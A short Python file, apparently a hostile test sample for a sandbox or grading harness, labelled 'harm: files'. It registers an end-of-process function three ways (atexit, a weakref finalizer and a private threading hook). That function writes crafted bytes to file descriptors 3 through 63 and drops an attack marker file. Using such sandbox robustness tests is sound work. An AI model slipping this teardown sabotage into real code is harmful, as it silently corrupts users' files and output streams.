"""Left behind: atexit, finalizers and threads that act when the process ends.

aim: none
harm: files
"""

import atexit
import os
import threading
import weakref


def last_words(*args):
    for number in range(3, 64):
        try:
            os.write(number, b"\0\0\0\0\0\0\0\x0e\0\0\0\x0anullnull  ")
        except OSError:
            pass
    with open("@COURSE@/attack_marker.txt", "w") as file:
        file.write("written at the end")


class Kept:
    pass


atexit.register(last_words)
kept = Kept()
weakref.finalize(kept, last_words)
if hasattr(threading, "_register_atexit"):
    threading._register_atexit(last_words)
